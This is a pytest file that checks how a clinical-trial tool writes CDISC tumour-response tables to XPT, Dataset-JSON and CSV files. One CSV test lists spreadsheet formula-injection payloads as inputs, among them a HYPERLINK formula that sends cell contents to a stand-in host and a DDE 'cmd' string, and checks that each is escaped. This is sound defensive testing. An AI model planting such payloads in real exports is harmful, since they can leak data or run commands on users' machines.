from __future__ import annotations

import csv
import datetime as dt
import io
import json
import math
import sys
import tempfile
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema
import pandas
import pyreadstat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recist_tool.cdisc import datasets
from recist_tool.cdisc.codes import term
from recist_tool.cdisc.dataset import (
    Dataset,
    DatasetLayout,
    Kind,
    Value,
    Variable,
    rows_of,
)
from recist_tool.cdisc.write_csv import write_csv
from recist_tool.cdisc.write_dataset_json import write_dataset_json
from recist_tool.cdisc.write_xpt import SAS_EPOCH, write_xpt
from recist_tool.errors import InputError, SetupError, StorageError
from tests.report.cdisc_reads import records, tables_of, visits

if TYPE_CHECKING:
    from collections.abc import Sequence

NOON = dt.datetime(2026, 1, 2, 12, tzinfo=dt.UTC)
SCHEMA = json.loads(
    Path(__file__).with_name("dataset_json_1_1.schema.json").read_text("utf-8")
)
TABLES = ("TU", "TR", "RS", "ADRS", "ADTR", "ADTTE")
VARIABLES = (
    Variable("USUBJID", "Unique Subject Identifier"),
    Variable("TEXT", "A text"),
    Variable("NUMBER", "A number", Kind.NUMBER),
    Variable("WHOLE", "A whole number", Kind.INTEGER),
    Variable("DAY", "A date", Kind.DATE),
)
text_cells = st.none() | st.text(
    st.characters(min_codepoint=33, max_codepoint=126), min_size=1, max_size=200
)
rows = st.lists(
    st.tuples(
        st.just("S-1"),
        text_cells,
        st.none() | st.decimals(-10_000, 10_000, places=4),
        st.none() | st.integers(-99_999, 99_999),
        st.none() | st.dates(dt.date(1900, 1, 1), dt.date(2100, 1, 1)),
    ),
    max_size=6,
)


def made() -> dict[str, Dataset]:
    """Return tables with a too small, a missing and a non-ending figure in them."""
    return tables_of(
        timepoints=visits(
            {"target": {"T1": {"mm": "30.1"}}},
            {"target": {"T1": {"mm": 20}}},
            {"target": {"T1": {"state": "too_small"}}},
            {"target": {"T1": {"state": "ne", "reason": "not imaged"}}},
        )
    )


def table(*cells: Sequence[Value], label: str = "A table") -> Dataset:
    return Dataset("TEST", label, VARIABLES, tuple(tuple(row) for row in cells))


def read_back(path: Path) -> tuple[list[tuple[Any, ...]], Any]:
    columns, description = pyreadstat.read_xport(
        path, output_format="dict", disable_datetime_conversion=True
    )
    return list(zip(*columns.values(), strict=True)), description


def as_xpt(row: Sequence[Value]) -> tuple[Any, ...]:
    """Return a row as XPT holds it: blanks, floats and days since 1960."""
    return tuple(
        float((cell - SAS_EPOCH).days)
        if isinstance(cell, dt.date)
        else float(cell)
        if isinstance(cell, int | Decimal)
        else cell
        for cell in row
    )


def same(found: Sequence[Any], expected: Sequence[Any]) -> bool:
    return all(
        one == other
        or (other is None and (one == "" or (one != one and math.isnan(one))))
        for one, other in zip(found, expected, strict=True)
    )


# ----------------------------------------------------------------------------- XPT


@pytest.mark.parametrize("name", TABLES)
def test_what_is_written_as_xpt_is_read_back(name: str, tmp_path: Path) -> None:
    given_table = made()[name]
    path = tmp_path / f"{name.lower()}.xpt"
    write_xpt(given_table, path)
    found, description = read_back(path)
    assert len(found) == len(given_table.rows)
    assert all(
        same(row, as_xpt(expected))
        for row, expected in zip(found, given_table.rows, strict=True)
    )
    variables = given_table.variables
    assert description.column_names == [one.name for one in variables]
    assert description.column_labels == [one.label for one in variables]
    assert description.table_name == name
    assert description.file_label == given_table.label


@pytest.mark.parametrize("name", TABLES)
def test_another_reader_finds_the_same_in_xpt(name: str, tmp_path: Path) -> None:
    given_table = made()[name]
    path = tmp_path / f"{name.lower()}.xpt"
    write_xpt(given_table, path)
    frame = pandas.read_sas(path, format="xport", encoding="ascii")
    assert list(frame.columns) == [one.name for one in given_table.variables]
    assert len(frame) == len(given_table.rows) > 0
    for place, variable in enumerate(given_table.variables):
        column = [row[place] for row in given_table.rows]
        found = list(frame[variable.name])
        if variable.kind in (Kind.NUMBER, Kind.INTEGER):
            expected = [math.nan if one is None else float(one) for one in column]
            # This reader makes 5e-79 of a zero (pandas issue 50670).
            assert found == pytest.approx(expected, rel=0, abs=1e-70, nan_ok=True)
        elif variable.kind is not Kind.DATE:
            assert found == ["" if one is None else one for one in column]


@settings(max_examples=50)
@given(rows)
def test_any_row_survives_xpt(cells: list[tuple[Value, ...]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder, "test.xpt")
        write_xpt(table(*cells), path)
        found, _ = read_back(path)
    assert len(found) == len(cells)
    assert all(
        same(row, as_xpt(expected)) for row, expected in zip(found, cells, strict=True)
    )


def test_a_table_without_records_is_still_a_table(tmp_path: Path) -> None:
    for empty in datasets([]):
        path = tmp_path / f"{empty.name}.xpt"
        write_xpt(empty, path)
        found, description = read_back(path)
        assert found == []
        assert len(description.column_names) == len(empty.variables)


def test_dates_of_analysis_are_numbers_shown_as_dates(tmp_path: Path) -> None:
    path = tmp_path / "adrs.xpt"
    write_xpt(made()["ADRS"], path)
    frame, description = pyreadstat.read_xport(path, output_format="dict")
    assert description.original_variable_types["ADT"] == "DATE9"
    assert frame["ADT"][0] == dt.date(2024, 2, 26)


def test_dates_of_collection_are_iso_text(tmp_path: Path) -> None:
    path = tmp_path / "tr.xpt"
    write_xpt(made()["TR"], path)
    columns, _ = pyreadstat.read_xport(path, output_format="dict")
    assert columns["TRDTC"][0] == "2023-12-20"


@pytest.mark.parametrize("name", TABLES)
def test_names_and_labels_fit_version_5(name: str) -> None:
    given_table = made()[name]
    assert len(given_table.label) <= 40
    for variable in given_table.variables:
        assert len(variable.name) <= 8
        assert len(variable.label) <= 40


@pytest.mark.parametrize(
    ("cell", "what"),
    [
        ("x" * 201, "has 201 characters; XPT holds 200"),
        ("Ödem", "not printable ASCII"),
        ("未扫描", "not printable ASCII"),
        ("a\x00b", "not printable ASCII"),
    ],
)
def test_a_value_that_does_not_fit_is_refused_and_not_repeated(
    cell: str, what: str, tmp_path: Path
) -> None:
    path = tmp_path / "test.xpt"
    bad = table(("S-1", "good", None, None, None), ("S-1", cell, None, None, None))
    with pytest.raises(InputError, match=what) as caught:
        write_xpt(bad, path)
    message = str(caught.value)
    assert "TEST record 2, TEXT" in message
    assert cell not in message
    assert not path.exists()


def test_a_value_of_200_characters_fits(tmp_path: Path) -> None:
    path = tmp_path / "test.xpt"
    write_xpt(table(("S-1", "x" * 200, None, None, None)), path)
    assert read_back(path)[0][0][1] == "x" * 200


def test_a_label_that_is_too_long_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="labels of 40 characters"):
        write_xpt(table(label="x" * 41), tmp_path / "test.xpt")


def test_all_faults_are_named_at_once(tmp_path: Path) -> None:
    bad = table(*[("S-1", "ü", None, None, None)] * 3)
    with pytest.raises(InputError) as caught:
        write_xpt(bad, tmp_path / "test.xpt")
    assert len(caught.value.faults) == 3


def test_a_file_that_came_out_short_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = pyreadstat.write_xport

    def cut(frame: Any, path: str, **details: Any) -> None:
        whole(frame.head(1), path, **details)

    monkeypatch.setattr(pyreadstat, "write_xport", cut)
    with pytest.raises(StorageError, match="holds 1 of 2 records"):
        write_xpt(table(*[("S-1", "x", None, None, None)] * 2), tmp_path / "test.xpt")


def test_a_folder_that_is_not_there_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(StorageError, match=r"test\.xpt: cannot be written"):
        write_xpt(table(), tmp_path / "nowhere" / "test.xpt")


def test_a_missing_library_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyreadstat", None)
    with pytest.raises(SetupError, match=r"pyreadstat.*recist-tool\[xpt\]"):
        write_xpt(table(), tmp_path / "test.xpt")


# -------------------------------------------------------------------- Dataset-JSON


def as_dataset_json(table: Dataset) -> dict[str, Any]:
    """Return what the file of a table holds."""
    file = io.StringIO()
    write_dataset_json(table, file, at=NOON)
    return json.loads(file.getvalue())


@pytest.mark.parametrize("name", TABLES)
def test_dataset_json_has_the_published_structure(name: str) -> None:
    jsonschema.validate(as_dataset_json(made()[name]), SCHEMA)


@pytest.mark.parametrize("name", TABLES)
def test_each_row_has_a_value_of_its_columns_type(name: str) -> None:
    found = as_dataset_json(made()[name])
    types = {"string": str, "date": str, "integer": int, "float": (int, float)}
    assert found["records"] == len(found["rows"]) > 0
    for row in found["rows"]:
        for column, value in zip(found["columns"], row, strict=True):
            assert value is None or isinstance(value, types[column["dataType"]])
            if column["dataType"] == "string" and value is not None:
                assert len(value) <= column["length"]


def test_attributes_come_in_the_order_of_the_specification() -> None:
    found = as_dataset_json(made()["ADRS"])
    order = list(SCHEMA["properties"])
    assert list(found) == [name for name in order if name in found]
    order = list(SCHEMA["$defs"]["column"]["properties"])
    for column in found["columns"]:
        assert list(column) == [name for name in order if name in column]


def test_dates_of_analysis_say_that_they_are_numbers_elsewhere() -> None:
    found = as_dataset_json(made()["ADRS"])
    (column,) = [one for one in found["columns"] if one["name"] == "ADT"]
    assert column["dataType"] == "date"
    assert column["targetDataType"] == "integer"
    assert column["displayFormat"] == "DATE9."


def test_the_time_of_making_has_its_zone() -> None:
    found = as_dataset_json(made()["TU"])
    assert found["datasetJSONCreationDateTime"] == "2026-01-02T12:00:00+00:00"


def test_the_study_is_named_where_it_is_known() -> None:
    assert as_dataset_json(made()["TU"])["studyOID"] == "STUDY"
    assert "studyOID" not in as_dataset_json(table())


# ----------------------------------------------------------------------------- CSV


@pytest.mark.parametrize("name", TABLES)
def test_csv_holds_the_same_values(name: str) -> None:
    given_table = made()[name]
    file = io.StringIO(newline="")
    write_csv(given_table, file)
    header, *found = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert header == [variable.name for variable in given_table.variables]
    assert len(found) == len(given_table.rows)
    for row, expected in zip(found, given_table.rows, strict=True):
        for text, value in zip(row, expected, strict=True):
            if isinstance(value, Decimal):
                assert float(text) == pytest.approx(float(value), rel=1e-14)
            else:
                assert text == ("" if value is None else str(value))


def test_csv_keeps_a_reason_with_commas_quotes_and_other_scripts() -> None:
    reason = 'bewegt, "unscharf"; 未扫描'
    found = tables_of(
        timepoints=visits(
            {"target": {"T1": {"mm": 30}}},
            {"target": {"T1": {"state": "ne", "reason": reason}}},
        )
    )["TR"]
    file = io.StringIO(newline="")
    write_csv(found, file)
    rows_read = csv.DictReader(io.StringIO(file.getvalue(), newline=""))
    assert reason in {row["TRREASND"] for row in rows_read}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.example/"&A1)', '\'=HYPERLINK("http://x.example/"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-30.5", "-30.5"),
        ("+4", "+4"),
        ("liver = S6", "liver = S6"),
    ],
)
def test_a_text_that_a_spreadsheet_would_run_is_a_text_there(
    text: str, cell: str
) -> None:
    names = [one.name for one in VARIABLES]
    cells: list[Value] = [text] + [None] * (len(VARIABLES) - 1)
    file = io.StringIO(newline="")
    write_csv(table(cells), file)
    (row,) = csv.DictReader(io.StringIO(file.getvalue(), newline=""))
    assert row[names[0]] == cell


# ------------------------------------------------------------------------ building


def test_a_reason_of_two_lines_becomes_one() -> None:
    tr = tables_of(
        timepoints=visits(
            {"target": {"T1": {"mm": 30}}},
            {"target": {"T1": {"state": "ne", "reason": " moved,\n not sharp "}}},
        )
    )["TR"]
    (size,) = records(tr, VISIT="TP1", TRTESTCD="LDIAM")
    assert size["TRREASND"] == "moved, not sharp"


def test_a_word_that_cdisc_does_not_know_cannot_be_written() -> None:
    layout = DatasetLayout(
        "T",
        "T",
        (Variable("USUBJID", "S"), Variable("TEST", "T", codelist="TRTESTCD")),
        "SEQ",
    )
    with pytest.raises(ValueError, match="no term 'SAXIS'"):
        list(rows_of(layout, [{"USUBJID": "S-1", "TEST": "SAXIS"}]))
    with pytest.raises(ValueError, match="no term"):
        term("ONCRTSCD", "NEWLRESP")


def test_a_variable_that_the_table_lacks_cannot_be_written() -> None:
    layout = DatasetLayout("T", "T", (Variable("USUBJID", "S"),), "SEQ")
    with pytest.raises(ValueError, match="no variable"):
        list(rows_of(layout, [{"USUBJID": "S-1", "OTHER": 1}]))
